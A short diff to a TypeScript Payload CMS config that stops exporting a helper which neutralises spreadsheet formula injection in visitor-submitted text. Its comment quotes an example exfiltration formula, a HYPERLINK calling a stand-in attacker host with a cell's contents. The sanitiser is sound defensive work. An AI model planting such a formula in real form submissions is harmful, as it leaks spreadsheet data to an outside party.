@@ -6,7 +6,7 @@ import type { CollectionConfig, Field } from 'payload'
  * show as text and do not display. A name like `=HYPERLINK("https://evil.example/?"&A1)` sent
  * through the contact form reaches the creator's spreadsheet as the words it is.
  */
-export const formulaSafeCell = (value: unknown): unknown =>
+const formulaSafeCell = (value: unknown): unknown =>
   typeof value === 'string' && /^[=+\-@\t\r]/.test(value) ? `'${value}` : value
 
 /** Fields whose value is text a visitor may have typed (dates, numbers and ids are not). */
